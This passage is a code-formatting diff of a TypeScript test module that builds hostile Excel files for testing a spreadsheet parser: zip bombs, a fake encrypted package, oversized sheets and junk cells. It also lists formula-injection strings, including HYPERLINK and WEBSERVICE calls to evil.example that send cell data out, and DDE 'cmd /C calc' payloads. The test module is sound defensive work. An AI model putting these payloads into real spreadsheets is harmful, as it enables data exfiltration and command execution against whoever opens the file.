@@ -81,7 +81,10 @@ function deflatedSpaces(mib: number): { data: Buffer; crc: number; size: number 
   const kernel = deflateRawSync(block, { finishFlush: constants.Z_FULL_FLUSH });
   let crc = 0;
   for (let i = 0; i < mib; i++) crc = crc32(block, crc);
-  const data = Buffer.concat([...Array.from({ length: mib }, () => kernel), Buffer.from([0x01, 0x00, 0x00, 0xff, 0xff])]);
+  const data = Buffer.concat([
+    ...Array.from({ length: mib }, () => kernel),
+    Buffer.from([0x01, 0x00, 0x00, 0xff, 0xff]),
+  ]);
   return { data, crc, size: mib * MIB };
 }
 
@@ -117,7 +120,10 @@ async function bomb(kind: 'declared' | 'ratio' | 'lying'): Promise<Buffer> {
 }
 
 /** Rewrites parts of a valid workbook's package with `edit` (XML text in, XML text out). */
-async function patched(edits: Record<string, (xml: string) => string>, fill?: (ws: ExcelJS.Worksheet) => void): Promise<Buffer> {
+async function patched(
+  edits: Record<string, (xml: string) => string>,
+  fill?: (ws: ExcelJS.Worksheet) => void,
+): Promise<Buffer> {
   const parts = await baseParts(fill);
   return writeZip(
     parts.map((p) => {
@@ -140,7 +146,11 @@ function encryptedPackage(): Buffer {
   info.writeUInt16LE(4, 0); // agile encryption, version 4.4
   info.writeUInt16LE(4, 2);
   info.writeUInt32LE(0x40, 4);
-  info.write('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>', 8, 'utf8');
+  info.write(
+    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><encryption xmlns="http://schemas.microsoft.com/office/2006/encryption"/>',
+    8,
+    'utf8',
+  );
   const pkg = Buffer.alloc(8192, 0xa5);
   pkg.writeUInt32LE(123456, 0); // the decrypted size, then ciphertext
   const infoStart = 2;
@@ -168,7 +178,15 @@ function encryptedPackage(): Buffer {
     fat.writeUInt32LE(last ? END : s + 1, s * 4);
   }
   const dir = Buffer.alloc(SECTOR);
-  const entry = (i: number, name: string, type: number, right: number, child: number, start: number, size: number): void => {
+  const entry = (
+    i: number,
+    name: string,
+    type: number,
+    right: number,
+    child: number,
+    start: number,
+    size: number,
+  ): void => {
     const at = i * 128;
     dir.write(name, at, 'utf16le');
     dir.writeUInt16LE((name.length + 1) * 2, at + 64);
@@ -191,10 +209,24 @@ function encryptedPackage(): Buffer {
   return Buffer.concat([header, fat, dir, info, pkg]);
 }
 
-const HEADER = ['一级指标', '二级指标', '三级指标', '年度指标值', '实际完成值', '分值', '得分', '评分标准', '佐证材料', '偏差原因分析及改进措施'];
+const HEADER = [
+  '一级指标',
+  '二级指标',
+  '三级指标',
+  '年度指标值',
+  '实际完成值',
+  '分值',
+  '得分',
+  '评分标准',
+  '佐证材料',
+  '偏差原因分析及改进措施',
+];
 
 /** An indicator table (header in row 1) with the given rows and a 合计 row. */
-function indicatorWorkbook(sheetName: string, rows: readonly (readonly (string | number | null)[])[]): ExcelJS.Workbook {
+function indicatorWorkbook(
+  sheetName: string,
+  rows: readonly (readonly (string | number | null)[])[],
+): ExcelJS.Workbook {
   const wb = new ExcelJS.Workbook();
   wb.created = new Date(Date.UTC(2021, 0, 1));
   wb.modified = wb.created;
@@ -208,9 +240,9 @@ function indicatorWorkbook(sheetName: string, rows: readonly (readonly (string |
 /** Texts a spreadsheet would run as formulas if they were ever written as formulas. */
 export const INJECTIONS = [
   '=HYPERLINK("http://evil.example/?"&A1,"点击")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '=1+1',
   '=WEBSERVICE("http://evil.example")',
 ];
@@ -232,7 +264,18 @@ function hostileCells(): ExcelJS.Workbook {
   return indicatorWorkbook('自评表', [
     ['产出指标', '数量指标', ctl, '≥95%', '96%', 10, 10, '达标记满分，否则不得分。', ctl, null],
     ['产出指标', '质量指标', long('名'), long('≥'), long('1,'), 10, 9, long('一'), long('达'), long('偏')],
-    ['效益指标', ctl, '年度任务完成率', long('9'), long('万'), 10, 8, long('每低5个百分点扣1分，'), long('《'), ctl],
+    [
+      '效益指标',
+      ctl,
+      '年度任务完成率',
+      long('9'),
+      long('万'),
+      10,
+      8,
+      long('每低5个百分点扣1分，'),
+      long('《'),
+      ctl,
+    ],
     [long('效'), long('社'), long('满'), '100%', '100%', 70, 70, long('1,'), long('≥'), null],
   ]);
 }
@@ -244,7 +287,8 @@ export async function buildHostileWorkbooks(): Promise<Record<string, Buffer>> {
     'zip-bomb-ratio.xlsx': await bomb('ratio'),
     'zip-bomb-lying.xlsx': await bomb('lying'),
     'oversized-declared.xlsx': await patched({
-      'xl/worksheets/sheet1.xml': (x) => x.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>'),
+      'xl/worksheets/sheet1.xml': (x) =>
+        x.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>'),
     }),
     'oversized-used.xlsx': await patched(
       { 'xl/worksheets/sheet1.xml': (x) => x.replace(/<dimension ref="[^"]*"\/>/, '') },
